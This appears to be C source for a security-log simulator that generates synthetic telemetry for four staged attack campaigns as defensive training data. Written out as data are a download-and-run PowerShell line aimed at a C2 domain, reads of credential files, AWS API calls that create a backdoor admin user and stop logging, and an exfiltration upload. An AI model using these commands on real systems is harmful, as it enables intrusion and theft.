/*
 * campaign_story.c: the four kinds of campaign (campaign.c says what
 * each is), step by step, loud or quiet, through the recorders of
 * campaign_record.c.
 */
#include <stdio.h>
#include <string.h>

#include "campaign.h"
#include "sim.h"

#define WINWORD "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
#define OUTLOOK "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
#define POWERSHELL "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define CMD "C:\\Windows\\System32\\cmd.exe"

/* phish-to-cloud, 1-2: the mail, the page that asked for the password
 * and the document; the password used from another country. */
static void
phish_lure(struct sim_campaigns *cs, struct camp *c,
    const struct sim_user *u, const struct sim_host *ws)
{
	struct sim_rng *r = &cs->r;
	char path[256], cmd[900], url[200];
	int i;


	/* 1: the mail, the page that asked for the password, the document */
	sim_camp_step(cs, c, "initial-access", "T1566.001",
	    "phishing attachment opened");
	sim_camp_lookup(cs, c, ws->ip, c->pd);
	snprintf(url, sizeof url, "https://%s/auth/o365/login.php?u=%s", c->pd,
	    u->name);
	sim_camp_proxy(cs, c, sim_camp_soon(cs, c, 1, 3), u, ws, c->pd, c->pip,
	    url, "GET", 900, "Newly Registered Websites");
	snprintf(url, sizeof url, "https://%s/invoice/INV-%u.docm", c->pd,
	    4000 + (unsigned)sim_rng_below(r, 5000));
	sim_camp_proxy(cs, c, sim_camp_soon(cs, c, 20, 90), u, ws, c->pd,
	    c->pip, url, "GET", 700, "Newly Registered Websites");
	snprintf(path, sizeof path, "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\"
	    "INetCache\\Content.Outlook\\Q7X2LM4D\\%s", u->name, strrchr(url, '/') + 1);
	sim_ev_file(&cs->b, r, sim_camp_soon(cs, c, 2, 10), ws, u->name,
	    OUTLOOK, path);
	sim_camp_ev(cs, c, c->t, SRC_SYSMON, u->name, ws->fqdn, NULL, NULL);
	snprintf(cmd, sizeof cmd, "\"%s\" /n \"%s\" /o \"\"", WINWORD, path);
	sim_camp_proc(cs, c, sim_camp_soon(cs, c, 3, 20), ws, u->name, WINWORD,
	    cmd, OUTLOOK, "\"" OUTLOOK "\"", NULL);
	sim_camp_gap(cs, c);

	/* 2: the password, from another country */
	sim_camp_step(cs, c, "initial-access", "T1078.004",
	    "stolen password used from a new country");
	if (c->loud)
		for (i = 0; i < 4; i++)
			sim_camp_okta(cs, c, sim_camp_soon(cs, c, 10, 40), u,
			    "system.push.send_factor_verify_push",
			    "Push notification sent for verification",
			    "SUCCESS", NULL, 0);
	sim_camp_okta(cs, c, sim_camp_soon(cs, c, 5, 30), u,
	    "user.session.start", "User login to Okta", "SUCCESS", NULL,
	    c->loud);
	sim_camp_entra(cs, c, sim_camp_soon(cs, c, 30, 120), u,
	    "Office 365 Exchange Online", 0, c->loud ? "high" : "medium");
	if (c->loud)
		sim_camp_entra(cs, c, sim_camp_soon(cs, c, 30, 120), u,
		    "Office 365 SharePoint Online", 0, "medium");
	sim_camp_gap(cs, c);
}

/* phish-to-cloud, 3-4: the macro's PowerShell, the beacon. */
static void
phish_foothold(struct sim_campaigns *cs, struct camp *c,
    const struct sim_user *u, const struct sim_host *ws)
{
	struct sim_rng *r = &cs->r;
	char cmd[900], enc[800];
	int i, k;


	/* 3: the macro's PowerShell */
	sim_camp_step(cs, c, "execution", "T1059.001",
	    "document macro starts encoded PowerShell");
	snprintf(cmd, sizeof cmd, "IEX (New-Object Net.WebClient).DownloadString("
	    "'https://%s/jquery-3.3.1.min.js')", c->c2d);
	sim_camp_ps_encode(cmd, enc, sizeof enc);
	snprintf(cmd, sizeof cmd, "powershell.exe -nop -w hidden -enc %s", enc);
	sim_camp_proc(cs, c, c->t, ws, u->name, POWERSHELL, cmd, WINWORD,
	    "\"" WINWORD "\" /n",
	    "technique_id=T1059.001,technique_name=PowerShell");
	sim_ev_dns(&cs->b, r, sim_camp_soon(cs, c, 1, 3), ws, u->name,
	    POWERSHELL, c->c2d, c->c2ip);
	sim_camp_ev(cs, c, c->t, SRC_SYSMON, u->name, ws->fqdn, NULL, NULL);
	sim_camp_gap(cs, c);

	/* 4: the beacon */
	sim_camp_step(cs, c, "command-and-control", "T1071.001",
	    "HTTPS beacon to the C2 server");
	k = c->loud ? 6 : 3;
	for (i = 0; i < k; i++) {
		struct sim_suricata e = { 0 };

		sim_ev_net(&cs->b, r, c->t, ws, u->name, POWERSHELL, c->c2ip, 443, c->c2d);
		sim_camp_ev(cs, c, c->t, SRC_SYSMON, u->name, ws->fqdn, ws->ip,
		    NULL);
		e.type = "tls";
		if (c->loud)
			sim_rule(&e, RULE_COBALT_STRIKE);
		e.src = ws->ip;
		e.dst = c->c2ip;
		e.dport = 443;
		e.proto = "TCP";
		e.sni = c->c2d;
		e.app = "tls";
		sim_camp_suricata(cs, c, sim_camp_soon(cs, c, 0, 2), &e);
		if (i == 0)
			sim_camp_proxy(cs, c, sim_camp_soon(cs, c, 0, 2), u, ws,
			    c->c2d, c->c2ip, c->c2d, "CONNECT", 3000,
			    "Uncategorized");
		if (c->loud)
			sim_camp_soon(cs, c, 55, 65);
		else
			c->t += sim_rng_range(r, cs->scale / 20, cs->scale / 6);
	}
	sim_camp_gap(cs, c);
}

/* phish-to-cloud, 5-6: credentials, then where to go. */
static void
phish_creds(struct sim_campaigns *cs, struct camp *c,
    const struct sim_user *u, const struct sim_host *ws)
{
	struct sim_rng *r = &cs->r;
	char cmd[900];


	/* 5: credentials */
	sim_camp_step(cs, c, "credential-access",
	    c->loud ? "T1003.001" : "T1552.001",
	    c->loud ? "LSASS memory read" : "AWS credentials file read");
	if (c->loud) {
		sim_ev_lsass(&cs->b, r, c->t, ws, u->name,
		    "C:\\Windows\\System32\\rundll32.exe");
		sim_camp_ev(cs, c, c->t, SRC_SYSMON, u->name, ws->fqdn, NULL,
		    NULL);
	}
	snprintf(cmd, sizeof cmd, "cmd.exe /c type C:\\Users\\%s\\.aws\\credentials",
	    u->name);
	sim_camp_proc(cs, c, sim_camp_soon(cs, c, 5, 60), ws, u->name, CMD, cmd,
	    POWERSHELL, "powershell.exe -nop -w hidden", NULL);
	sim_camp_gap(cs, c);

	/* 6: where to go */
	sim_camp_step(cs, c, "discovery", "T1087.002",
	    "domain admins and controllers listed");
	sim_camp_proc(cs, c, c->t, ws, u->name,
	    "C:\\Windows\\System32\\net.exe",
	    "net.exe group \"Domain Admins\" /domain", CMD, "cmd.exe",
	    "technique_id=T1087.002,technique_name=Domain Account");
	sim_camp_proc(cs, c, sim_camp_soon(cs, c, 5, 40), ws, u->name,
	    "C:\\Windows\\System32\\nltest.exe",
	    "nltest.exe /dclist:corp.example", CMD, "cmd.exe", NULL);
	if (c->loud)
		sim_camp_proc(cs, c, sim_camp_soon(cs, c, 5, 40), ws, u->name,
		    "C:\\Users\\Public\\AdFind.exe",
		    "AdFind.exe -f \"(objectcategory=computer)\" -csv name operatingSystem", CMD, "cmd.exe", "technique_id=T1018,technique_name=Remote System Discovery");
	sim_camp_gap(cs, c);
}

/* phish-to-cloud, 7-8: to the file server (as an administrator when
 * loud), the finance share packed. */
static void
phish_lateral(struct sim_campaigns *cs, struct camp *c,
    const struct sim_user *u, const struct sim_host *ws,
    const struct sim_user *admin)
{
	const struct sim_org *o = cs->o;
	struct sim_rng *r = &cs->r;
	const struct sim_host *fs = &o->hosts[o->fs];
	char cmd[900];


	/* 7: to the file server */
	sim_camp_step(cs, c, "lateral-movement",
	    c->loud ? "T1021.002" : "T1021.001",
	    c->loud ? "PsExec to the file server with an admin's password" : "RDP to the file server");
	{
		const struct sim_user *as = c->loud ? admin : u;

		sim_ev_logon(&cs->b, r, c->t, fs, as->name, ws->ip, c->loud ? 3 : 10, 0);
		sim_camp_ev(cs, c, c->t, SRC_WINSEC, as->name, fs->fqdn, ws->ip,
		    NULL);
		if (c->loud) {
			struct sim_suricata e = { 0 };

			sim_ev_special(&cs->b, sim_camp_soon(cs, c, 0, 1), fs,
			    as->name);
			sim_camp_ev(cs, c, c->t, SRC_WINSEC, as->name, fs->fqdn,
			    NULL, NULL);
			sim_rule(&e, RULE_SMB_EXE);
			e.src = ws->ip;
			e.dst = fs->ip;
			e.dport = 445;
			e.proto = "TCP";
			e.app = "smb";
			sim_camp_suricata(cs, c, sim_camp_soon(cs, c, 1, 2),
			    &e);
			sim_ev_service(&cs->b, sim_camp_soon(cs, c, 1, 3), fs,
			    as->name, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
			sim_camp_ev(cs, c, c->t, SRC_WINSEC, as->name, fs->fqdn,
			    NULL, NULL);
			sim_camp_proc(cs, c, sim_camp_soon(cs, c, 1, 3), fs,
			    NULL, "C:\\Windows\\PSEXESVC.exe",
			    "C:\\Windows\\PSEXESVC.exe",
			    "C:\\Windows\\System32\\services.exe",
			    "C:\\Windows\\system32\\services.exe", NULL);
		}
	}
	sim_camp_gap(cs, c);

	/* 8: the finance share, packed */
	sim_camp_step(cs, c, "collection", "T1560.001",
	    "finance share archived for theft");
	snprintf(cmd, sizeof cmd, "7z.exe a -mx9 -pinfected C:\\ProgramData\\upd.7z "
	    "\\\\fs-01.corp.example\\Finance\\*");
	sim_camp_proc(cs, c, c->t, ws, u->name,
	    "C:\\Program Files\\7-Zip\\7z.exe", cmd, CMD, "cmd.exe", NULL);
	sim_ev_file(&cs->b, r, sim_camp_soon(cs, c, 60, 400), ws, u->name,
	    "C:\\Program Files\\7-Zip\\7z.exe", "C:\\ProgramData\\upd.7z");
	sim_camp_ev(cs, c, c->t, SRC_SYSMON, u->name, ws->fqdn, NULL, NULL);
	sim_camp_gap(cs, c);
}

/* phish-to-cloud, 9-10: the person's AWS key from outside, the data out. */
static void
phish_out(struct sim_campaigns *cs, struct camp *c, const struct sim_user *u,
    const struct sim_host *ws)
{
	struct sim_rng *r = &cs->r;
	char url[200], params[256];
	int i;

	/* 9: the person's AWS key, from outside */
	sim_camp_step(cs, c, "discovery", "T1580",
	    "the person's AWS key used from the " "attacker's address");
	sim_camp_trail(cs, c, c->t, u, c->key, "sts.amazonaws.com",
	    "GetCallerIdentity", NULL, NULL, NULL);
	sim_camp_trail(cs, c, sim_camp_soon(cs, c, 5, 30), u, c->key,
	    "s3.amazonaws.com", "ListBuckets", NULL, NULL, NULL);
	sim_camp_trail(cs, c, sim_camp_soon(cs, c, 5, 30), u, c->key,
	    "iam.amazonaws.com", "ListUsers", NULL, NULL, "AccessDenied");
	if (c->loud) {
		sim_camp_step(cs, c, "persistence", "T1098.001",
		    "a second access key created");
		snprintf(params, sizeof params, "{\"userName\":\"%s\"}", u->name);
		sim_camp_trail(cs, c, sim_camp_soon(cs, c, 30, 120), u, c->key,
		    "iam.amazonaws.com", "CreateAccessKey", params, NULL, NULL);
	}
	sim_camp_gap(cs, c);

	/* 10: out */
	sim_camp_step(cs, c, "exfiltration", "T1567.002",
	    "finance data sent to cloud storage");
	for (i = 0; i < (c->loud ? 3 : 1); i++) {
		snprintf(url, sizeof url, "https://%s/api/v2/upload/%u", c->xd,
		    (unsigned)sim_rng_below(r, 100000));
		sim_camp_proxy(cs, c, sim_camp_soon(cs, c, 5, 60), u, ws, c->xd,
		    c->xip, url, "POST", 40000000 + (long long)sim_rng_below(r,
		    200000000), "File Sharing");
	}
	for (i = 0; i < (c->loud ? 8 : 3); i++) {
		snprintf(params, sizeof params, "{\"bucketName\":\"%s\",\"key\":"
		    "\"reports/2026/q%d-ledger-%02d.xlsx\"}", c->bucket, 1 + i % 4, i);
		sim_camp_trail(cs, c, sim_camp_soon(cs, c, 1, 20), u, c->key,
		    "s3.amazonaws.com", "GetObject", params, NULL, NULL);
	}
}

void
sim_camp_phish(struct sim_campaigns *cs, struct camp *c)
{
	const struct sim_org *o = cs->o;
	const struct sim_user *u = &o->users[c->victim];
	const struct sim_host *ws = &o->hosts[u->host];
	const struct sim_user *admin = u;
	int i;

	for (i = 0; i < (int)o->npeople; i++)
		if (o->users[i].privileged && i != c->victim) {
			admin = &o->users[i];
			break;
		}
	phish_lure(cs, c, u, ws);
	phish_foothold(cs, c, u, ws);
	phish_creds(cs, c, u, ws);
	phish_lateral(cs, c, u, ws, admin);
	phish_out(cs, c, u, ws);
}

/*
 * leaked-ci-key: the poisoned package, the key tried from outside, the
 * backdoor user, logging stopped, the bucket read, a snapshot shared,
 * miners.
 * long: the steps in the ground truth's order, a paragraph a step
 */
void
sim_camp_cikey(struct sim_campaigns *cs, struct camp *c)
{
	static const char *const regions[] = { "us-east-1", "us-west-2",
	    "eu-west-1", "ap-southeast-1", "eu-central-1", "sa-east-1" };
	const struct sim_org *o = cs->o;
	const struct sim_user *svc = &o->users[o->svc_deploy];
	struct sim_user *bd = &c->backdoor;
	char params[300];
	int i;

	/* The events keep pointers to its name and key: it lives in c. */
	snprintf(bd->name, sizeof bd->name, "support-sync");
	memcpy(bd->key, c->backdoor_key, sizeof bd->key);

	sim_camp_step(cs, c, "initial-access", "T1195.002",
	    "a poisoned package on the " "build server sends its secrets out");
	{
		const struct sim_host *b = &o->hosts[o->build];
		char url[128];

		sim_camp_lookup(cs, c, b->ip, c->c2d);
		snprintf(url, sizeof url, "/v1/collect?id=%u",
		    (unsigned)sim_rng_below(&cs->r, 1000000));
		sim_camp_soon(cs, c, 0, 2);
		sim_camp_upload(cs, c, b->ip, c->c2ip, 80, c->c2d, url,
		    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
		    6000 + (long long)sim_rng_below(&cs->r, 4000), 0);
	}
	sim_camp_gap(cs, c);

	sim_camp_step(cs, c, "discovery", "T1580",
	    "the CI key tried from outside");
	sim_camp_trail(cs, c, c->t, svc, c->key, "sts.amazonaws.com",
	    "GetCallerIdentity", NULL, NULL, NULL);
	for (i = 0; i < (c->loud ? 6 : 2); i++)
		sim_camp_trail(cs, c, sim_camp_soon(cs, c, 1,
		    c->loud ? 5 : 120), svc, c->key, "ec2.amazonaws.com",
		    "DescribeInstances", NULL, regions[i], NULL);
	sim_camp_trail(cs, c, sim_camp_soon(cs, c, 2, 30), svc, c->key,
	    "s3.amazonaws.com", "ListBuckets", NULL, NULL, NULL);
	sim_camp_trail(cs, c, sim_camp_soon(cs, c, 2, 30), svc, c->key,
	    "iam.amazonaws.com", "GetAccountAuthorizationDetails", NULL, NULL,
	    NULL);
	sim_camp_gap(cs, c);

	sim_camp_step(cs, c, "persistence", "T1136.003",
	    "a backdoor IAM user with a key");
	sim_camp_trail(cs, c, c->t, svc, c->key, "iam.amazonaws.com",
	    "CreateUser", "{\"userName\":\"support-sync\"}", NULL, NULL);
	sim_camp_trail(cs, c, sim_camp_soon(cs, c, 2, 20), svc, c->key,
	    "iam.amazonaws.com", "CreateAccessKey",
	    "{\"userName\":\"support-sync\"}", NULL, NULL);
	sim_camp_trail(cs, c, sim_camp_soon(cs, c, 2, 20), svc, c->key,
	    "iam.amazonaws.com", "AttachUserPolicy",
	    "{\"userName\":\"support-sync\",\"policyArn\":" "\"arn:aws:iam::aws:policy/AdministratorAccess\"}", NULL, NULL);
	sim_camp_gap(cs, c);

	if (c->loud) {
		sim_camp_step(cs, c, "defense-evasion", "T1562.008",
		    "CloudTrail logging stopped");
		snprintf(params, sizeof params, "{\"name\":\"arn:aws:cloudtrail:"
		    "eu-central-1:%s:trail/org-trail\"}", o->account_prod);
		sim_camp_trail(cs, c, c->t, bd, bd->key,
		    "cloudtrail.amazonaws.com", "StopLogging", params, NULL,
		    NULL);
		sim_camp_gap(cs, c);
	}

	sim_camp_step(cs, c, "collection", "T1530", "the finance bucket read");
	for (i = 0; i < (c->loud ? 12 : 4); i++) {
		snprintf(params, sizeof params, "{\"bucketName\":\"%s\",\"key\":"
		    "\"exports/customers-%02d.csv.gz\"}", c->bucket, i);
		sim_camp_trail(cs, c, sim_camp_soon(cs, c, 1,
		    c->loud ? 4 : 300), bd, bd->key, "s3.amazonaws.com",
		    "GetObject", params, NULL, NULL);
	}
	sim_camp_gap(cs, c);

	sim_camp_step(cs, c, "exfiltration", "T1537",
	    "a database snapshot shared with " "an outside account");
	sim_camp_trail(cs, c, c->t, bd, bd->key, "rds.amazonaws.com",
	    "CreateDBSnapshot", "{\"dBSnapshotIdentifier\":\"finance-tmp\","
	    "\"dBInstanceIdentifier\":\"finance-prod\"}", NULL, NULL);
	sim_camp_trail(cs, c, sim_camp_soon(cs, c, 60, 600), bd, bd->key,
	    "rds.amazonaws.com", "ModifyDBSnapshotAttribute",
	    "{\"dBSnapshotIdentifier\":\"finance-tmp\",\"attributeName\":"
	    "\"restore\",\"valuesToAdd\":[\"210987654321\"]}", NULL, NULL);

	if (c->loud) {
		sim_camp_gap(cs, c);
		sim_camp_step(cs, c, "impact", "T1496",
		    "GPU instances started for mining");
		for (i = 0; i < 3; i++)
			sim_camp_trail(cs, c, sim_camp_soon(cs, c, 1, 10), bd,
			    bd->key, "ec2.amazonaws.com", "RunInstances",
			    "{\"instanceType\":\"p3.16xlarge\",\"minCount\":4,\"maxCount\":4}", regions[3 + i], NULL);
	}
}

void
sim_camp_spray(struct sim_campaigns *cs, struct camp *c)
{
	const struct sim_org *o = cs->o;
	struct sim_rng *r = &cs->r;
	const struct sim_user *u = &o->users[c->victim];
	int i, k = c->loud ? 40 : 15;

	sim_camp_step(cs, c, "credential-access", "T1110.003",
	    "password spray across the company");
	for (i = 0; i < k; i++) {
		const struct sim_user *t = &o->users[sim_rng_below(r, o->npeople)];

		if (t == u)
			continue;
		if (i % 3 == 2)
			sim_camp_entra(cs, c, c->t, t,
			    "Office 365 Exchange Online", 50126, "none");
		else
			sim_camp_okta(cs, c, c->t, t, "user.session.start",
			    "User login to Okta", "FAILURE",
			    "INVALID_CREDENTIALS", 0);
		if (c->loud)
			sim_camp_soon(cs, c, 1, 6);
		else
			c->t += sim_rng_range(r, cs->scale / 40, cs->scale / 10);
	}
	sim_camp_okta(cs, c, c->t, u, "user.session.start",
	    "User login to Okta", "FAILURE", "INVALID_CREDENTIALS", 0);
	sim_camp_gap(cs, c);

	sim_camp_step(cs, c, "initial-access", "T1078.004",
	    "a sprayed password works");
	sim_camp_okta(cs, c, c->t, u, "user.session.start",
	    "User login to Okta", "SUCCESS", NULL, c->loud);
	sim_camp_entra(cs, c, sim_camp_soon(cs, c, 20, 90), u, "OfficeHome", 0,
	    c->loud ? "medium" : "low");
	sim_camp_gap(cs, c);

	sim_camp_step(cs, c, "persistence", "T1098.005",
	    "the attacker's MFA factor enrolled");
	sim_camp_okta(cs, c, c->t, u, "user.mfa.factor.activate",
	    "User set up MFA factor", "SUCCESS", NULL, 0);
	sim_camp_gap(cs, c);

	sim_camp_step(cs, c, "collection", "T1114.002",
	    "mailbox and files read");
	for (i = 0; i < (c->loud ? 6 : 3); i++) {
		sim_camp_entra(cs, c, c->t, u,
		    i % 2 ? "Office 365 SharePoint Online" : "Office 365 Exchange Online", 0, "none");
		sim_camp_okta(cs, c, sim_camp_soon(cs, c, 5, 30), u,
		    "user.authentication.sso", "User single sign on to app",
		    "SUCCESS", NULL, 0);
		if (c->loud)
			sim_camp_soon(cs, c, 60, 300);
		else
			c->t += sim_rng_range(r, cs->scale / 10, cs->scale / 3);
	}
}

/*
 * ssh-bruteforce: guessing at the bastion until it works, sudo, a key
 * planted, on to the finance database, a dump carried out by curl.
 * long: the steps in the ground truth's order, a paragraph a step
 */
void
sim_camp_ssh(struct sim_campaigns *cs, struct camp *c)
{
	static const char *const guesses[] = { "root", "admin", "ubuntu",
	    "deploy", "oracle" };
	const struct sim_org *o = cs->o;
	struct sim_rng *r = &cs->r;
	const struct sim_user *u = &o->users[c->victim];
	const struct sim_host *bh = &o->hosts[o->bastion], *db = &o->hosts[o->db];
	char full[300], cmd[200];
	int i, k = c->loud ? 60 : 20;

	sim_camp_step(cs, c, "credential-access", "T1110.001",
	    "SSH password guessing at the bastion");
	for (i = 0; i < k; i++) {
		const char *who = i % 4 == 3 ? u->name : guesses[i % 5];
		int invalid = strcmp(who, "root") && strcmp(who, u->name);

		sim_ev_sshd(&cs->b, r, c->t, bh, 0, "password", who, invalid, c->aip);
		sim_camp_ev(cs, c, c->t, SRC_SYSLOG, NULL, bh->fqdn, c->aip,
		    NULL);
		if (i % 5 == 0) {
			sim_ev_wazuh_fail(&cs->b, r, c->t + 1, bh, who, invalid, c->aip);
			sim_camp_ev(cs, c, c->t + 1, SRC_WAZUH, NULL, bh->fqdn,
			    c->aip, NULL);
		}
		if (c->loud)
			sim_camp_soon(cs, c, 1, 4);
		else
			c->t += sim_rng_range(r, cs->scale / 60, cs->scale / 15);
	}
	if (c->loud) {
		struct sim_suricata e = { 0 };

		snprintf(full, sizeof full, "sshd[2999]: Failed password for %s from %s "
		    "port 41234 ssh2", u->name, c->aip);
		sim_camp_wazuh(cs, c, c->t, bh, "5720", 10,
		    "sshd: Multiple authentication failures.",
		    "\"syslog\",\"sshd\",\"authentication_failures\"", "T1110",
		    "Credential Access", full, c->aip, NULL, NULL);
		sim_rule(&e, RULE_SSH_SCAN);
		e.src = c->aip;
		e.dst = bh->ip;
		sim_camp_suricata(cs, c, sim_camp_soon(cs, c, 0, 2), &e);
	}
	sim_camp_gap(cs, c);

	sim_camp_step(cs, c, "initial-access", "T1078",
	    "a guessed password logs in at the bastion");
	sim_camp_ssh_in(cs, c, bh, u->name, c->aip, "password");
	sim_camp_soon(cs, c, 30, 200);

	sim_camp_step(cs, c, "privilege-escalation", "T1548.003",
	    "sudo to a root shell");
	/* soc-ingest reads no user from a sudo line (the Wazuh alert has it). */
	sim_ev_sudo(&cs->b, r, c->t, bh, u->name, "/bin/bash");
	sim_camp_ev(cs, c, c->t, SRC_SYSLOG, NULL, bh->fqdn, NULL, NULL);
	sim_ev_wazuh_sudo(&cs->b, r, sim_camp_soon(cs, c, 0, 1), bh, u->name,
	    "/bin/bash");
	sim_camp_ev(cs, c, c->t, SRC_WAZUH, u->name, bh->fqdn, NULL, NULL);
	sim_camp_soon(cs, c, 20, 120);

	sim_camp_step(cs, c, "persistence", "T1098.004",
	    "an SSH key added for root");
	sim_camp_wazuh(cs, c, c->t, bh, "550", 7, "Integrity checksum changed.",
	    "\"ossec\",\"syscheck\",\"syscheck_entry_modified\",\"syscheck_file\"", "T1098.004", "Persistence", NULL, NULL, NULL, "/root/.ssh/authorized_keys");
	sim_camp_gap(cs, c);

	sim_camp_step(cs, c, "lateral-movement", "T1021.004",
	    "SSH from the bastion to the " "finance database");
	sim_camp_ssh_in(cs, c, db, u->name, bh->ip, "publickey");
	sim_camp_soon(cs, c, 60, 600);

	sim_camp_step(cs, c, "collection", "T1005",
	    "the finance database dumped");
	snprintf(cmd, sizeof cmd, "/usr/bin/pg_dump -Fc finance -f /tmp/.%s.dump",
	    u->name);
	sim_ev_sudo(&cs->b, r, c->t, db, u->name, cmd);
	sim_camp_ev(cs, c, c->t, SRC_SYSLOG, NULL, db->fqdn, NULL, NULL);
	sim_camp_gap(cs, c);

	sim_camp_step(cs, c, "exfiltration", "T1048.002",
	    "the dump sent out with curl");
	snprintf(cmd, sizeof cmd, "/upload/%s.bin", c->xd);
	sim_camp_upload(cs, c, db->ip, c->xip, 443, c->xd, cmd, "curl/7.88.1",
	    300000000 + (long long)sim_rng_below(r, 500000000), 1);
}
